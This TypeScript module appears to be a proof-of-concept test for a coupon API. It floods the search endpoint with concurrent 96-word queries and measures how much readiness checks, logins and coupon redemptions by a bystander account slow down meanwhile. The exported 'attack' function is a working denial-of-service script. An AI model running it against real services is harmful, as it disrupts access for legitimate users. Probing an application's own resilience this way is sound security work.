/** Search with as many words as the field accepts. */
const SEARCH = `/api/cupons/disponiveis?busca=${Array(96).fill('a').join('+')}`
const CONCURRENCY = 24

type Got = { readonly status: number; readonly ms: number; readonly body: string }

async function timed(url: string, init: RequestInit = {}): Promise<Got> {
  const since = performance.now()
  const answer = await fetch(url, init)
  const body = await answer.text()
  return { status: answer.status, ms: performance.now() - since, body }
}

const post = (url: string, body: object, token?: string): Promise<Got> =>
  timed(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) },
    body: JSON.stringify(body),
  })

/** Summary of responses: count by status, and the slowest. */
function summaryOf(all: readonly Got[]): Record<string, string> {
  const statuses = Object.entries(Object.groupBy(all, ({ status }) => String(status)))
  return {
    'slowest, s': (Math.max(...all.map(({ ms }) => ms)) / 1000).toFixed(2),
    answers: statuses.map(([status, these]) => `${these?.length} × ${status}`).join(', '),
  }
}

/** Bystander: a customer who uses the api during the attack. */
export type Bystander = { readonly email: string; readonly password: string; readonly token: string }

/** Free coupons that the bystander may redeem, by id. */
async function freeCoupons(api: string, { token }: Bystander): Promise<number[]> {
  const headers = { authorization: `Bearer ${token}` }
  const { body } = await timed(`${api}/api/cupons/disponiveis?limite=200`, { headers })
  const { data } = JSON.parse(body) as { data: { id: number; points_required: number; resgatado: boolean }[] }
  return data.filter((coupon) => coupon.points_required === 0 && !coupon.resgatado).map(({ id }) => id)
}

/**
 * Denial of service by searches of many words: their cost alone and concurrently, and the response times of others
 * meanwhile: readiness, sign-ins and redemptions, one after the other until the last search is answered.
 */
export async function attack(api: string, bystander: Bystander): Promise<Record<string, Record<string, string>>> {
  const coupons = await freeCoupons(api, bystander)
  const alone = await timed(`${api}${SEARCH}`)
  const since = performance.now()
  let isOver = false
  const all = Promise.all(Array.from({ length: CONCURRENCY }, () => timed(`${api}${SEARCH}`)))
  const over = all.then(() => {
    isOver = true
    return performance.now() - since
  })
  const ready: Got[] = []
  const signIns: Got[] = []
  const redemptions: Got[] = []
  do {
    ready.push(await timed(`${api}/api/health/ready`))
    signIns.push(await post(`${api}/api/user/login`, { email: bystander.email, password: bystander.password }))
    redemptions.push(await post(`${api}/api/cupons/comprar`, { coupon_id: coupons.pop() }, bystander.token))
  } while (!isOver)
  return {
    'one search of 96 words': summaryOf([alone]),
    [`${CONCURRENCY} of them at once`]: { ...summaryOf(await all), 'all, s': ((await over) / 1000).toFixed(2) },
    'ready meanwhile': summaryOf(ready),
    'signing in meanwhile': summaryOf(signIns),
    'redeeming meanwhile': summaryOf(redemptions),
  }
}
